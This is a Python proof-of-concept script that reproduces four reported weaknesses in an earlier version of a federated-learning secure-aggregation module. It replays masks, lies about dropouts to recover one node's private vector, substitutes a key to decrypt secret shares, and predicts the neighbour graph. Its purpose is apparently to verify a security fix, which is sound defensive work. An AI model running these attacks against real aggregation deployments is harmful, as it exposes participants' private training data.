# Issue 35, findings 2, 8, 9 and 10 reproduced against the code before the fix (f93bff7: flower_io/secagg.py).
# Run from a checkout of f93bff7: PYTHONPATH=. python attacks_f93bff7.py > attacks_f93bff7.out
"""Issue 35 findings 2, 8, 9, 10 reproduced against the OLD secure aggregation (flower_io/secagg.py
at f93bff7), as the attacker would play them. Run from the old worktree."""
import numpy as np
from flwr.common.secure_aggregation.crypto.shamir import combine_shares
from flwr.common.secure_aggregation.crypto.symmetric_encryption import decrypt, generate_shared_key
from flwr.supercore.primitives.asymmetric import bytes_to_private_key, bytes_to_public_key, generate_key_pairs, \
    private_key_to_bytes, public_key_to_bytes
from flower_io.secagg import (MOD, Params, SecAggError, ServerRound, node_collect, node_setup, node_share_keys,
                              node_unmask, prg, quantise)

rng = np.random.default_rng(0)
xs = {u: rng.uniform(-1, 1, 200) for u in range(1, 6)}
p = Params(threshold=3, clip=1.0, bits=16, neighbours=0)

def setup_round():
    srv = ServerRound(p, sorted(xs), seed=0)
    st = {}
    for u in xs:
        st[u], pk = node_setup(u)
        srv.add_keys(u, pk)
    for u in xs:
        srv.add_shares(u, node_share_keys(st[u], p, srv.keys_for(u)))
    ys = {}
    for u in xs:
        ys[u] = node_collect(st[u], p, xs[u], srv.ciphertexts_for(u))
        srv.add_masked(u, ys[u])
    return srv, st, ys

# finding 2: one mask, several vectors
srv, st, ys = setup_round()
try:
    srv.add_masked(1, ys[1]); print("F2 server: a second masked vector from node 1 ACCEPTED")
except SecAggError as e:
    print("F2 server: refused", e)
try:
    node_collect(st[1], p, xs[1] * 0.5, srv.ciphertexts_for(1)); print("F2 node: a second collect ACCEPTED (same masks on another vector)")
except SecAggError as e:
    print("F2 node: refused", e)

# finding 8: lying about dropouts (default threshold, each node answers once)
srv, st, ys = setup_round()
got = {}
for w in range(2, 6):
    try:
        got[w] = node_unmask(st[w], p, [1, 1, 1], [v for v in range(2, 6) if v != w])
    except SecAggError as e:
        print("F8 node", w, "refused:", e)
b = [got[w][1] for w in got if 1 in got[w]]
seed1 = combine_shares(b[:3])
y = ys[1] - prg(seed1, ys[1].size)
for v in range(2, 6):
    sk = [got[w][v] for w in got if v in got[w]]
    skv = bytes_to_private_key(combine_shares(sk[:3]))
    s = generate_shared_key(skv, bytes_to_public_key(srv.keys[1][0]))
    m = prg(s, y.size)
    y = y - m if 1 > v else y + m
q = quantise(xs[1], p)
print("F8 lying about dropouts: node 1 vector recovered (within the stochastic rounding, |diff| <= 1):", bool(np.abs(np.mod(y, MOD) - q).max() <= 1), "; as floats, max error", float(np.abs(np.mod(y, MOD) * (2 / 2**16) - 1 - xs[1]).max()))

# finding 9: key substitution
srv = ServerRound(p, sorted(xs), seed=0)
st = {}
for u in xs:
    st[u], pk = node_setup(u)
    srv.add_keys(u, pk)
evil_sk, evil_pk = generate_key_pairs()
keys = srv.keys_for(1)
keys[2] = (keys[2][0], public_key_to_bytes(evil_pk))
cts = node_share_keys(st[1], p, keys)
key = generate_shared_key(evil_sk, bytes_to_public_key(st[1].pk2))
plain = decrypt(key, cts[2])
print("F9 key substitution: the server decrypted node 1's shares for node 2:", len(plain), "bytes")

# finding 10: predictable graph
import json
from server_app.secure import SecureRound
g1 = ServerRound(Params(3, 1.0, 16, 4), list(range(1, 11)), seed=hash((0, 1)) & 0xFFFFFFFF).graph
g2 = ServerRound(Params(3, 1.0, 16, 4), list(range(1, 11)), seed=hash((0, 1)) & 0xFFFFFFFF).graph
print("F10 graph from hash((config seed, round)): identical for every run of that config:", g1 == g2,
      "(any node computes it: hash of an int tuple is not salted)")
